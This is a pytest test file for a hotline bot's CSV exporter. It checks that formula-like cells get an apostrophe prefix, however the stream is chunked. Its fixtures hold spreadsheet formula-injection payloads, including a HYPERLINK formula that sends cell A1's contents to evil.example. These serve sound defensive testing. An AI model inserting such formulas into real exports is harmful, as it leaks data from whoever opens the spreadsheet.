"""CSV exports (bot/hotline/exports.py): a citizen's formula is text in a spreadsheet, everything else as written."""
from __future__ import annotations

import csv
import io
import urllib.parse

import pytest

from bot.hotline import unanswered
from bot.hotline.exports import FormulaGuard
from bot.reading.normaliser import normalizer
from tests.support.lookup_server import logged_in

CSV = ('id,text,channel\r\n1,"=HYPERLINK(""http://x.example"",""点我"")",wechat\r\n2,+86 138****5678,rest\r\n'
       '3,"-1+1, then @SUM(A1)",rest\r\n4,"多行\r\n=1+1",rest\r\n5,"\tformula after a tab",rest\r\n'
       '6,抗美援朝老兵每年多少,rest\r\n')


def streamed(data: bytes, size: int) -> bytes:
    guard = FormulaGuard()
    return b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size)) + guard.end()


@pytest.mark.parametrize("size", [1, 2, 7, 64, 10_000])
def test_cells_a_spreadsheet_would_run_begin_with_an_apostrophe_however_the_stream_is_cut(size):
    rows = list(csv.reader(io.StringIO(streamed(CSV.encode("utf-8"), size).decode("utf-8"), newline="")))
    assert [row[1] for row in rows] == ["text", "'=HYPERLINK(\"http://x.example\",\"点我\")", "'+86 138****5678",
                                        "'-1+1, then @SUM(A1)", "多行\r\n=1+1", "'\tformula after a tab", "抗美援朝老兵每年多少"]
    assert [row[2] for row in rows][1:] == ["wechat", "rest", "rest", "rest", "rest", "rest"]


def test_a_csv_without_formulas_is_passed_on_byte_for_byte():
    plain = 'id,text\r\n1,抗美援朝老兵每年多少\r\n2,"a ""quoted"" word, and a comma"\r\n'.encode()
    assert streamed(plain, 5) == plain


@pytest.mark.server
def test_the_desks_csv_export_of_citizens_words_neutralises_formulas(lookup, measures):
    said = '=HYPERLINK("http://evil.example/?"&A1,"查看补助")'
    log = lookup.audit.parent / "unanswered.db"
    unanswered.record(log, said, sender="rest-formula", channel="rest", intent="out_of_scope", confidence=1.0,
                      normalize=normalizer(measures))
    url = f"{lookup.base}/unanswered/unanswered.csv?_size=max&sender__exact=" + urllib.parse.quote("rest-formula")
    try:
        exported = logged_in(lookup.base).open(url, timeout=30).read().decode("utf-8")
    finally:
        unanswered.forget(log, "rest-formula")  # the shared desk's other tests count its entries
    [row] = [r for r in csv.DictReader(io.StringIO(exported, newline="")) if r["sender"] == "rest-formula"]
    assert row["text"] == "'" + said
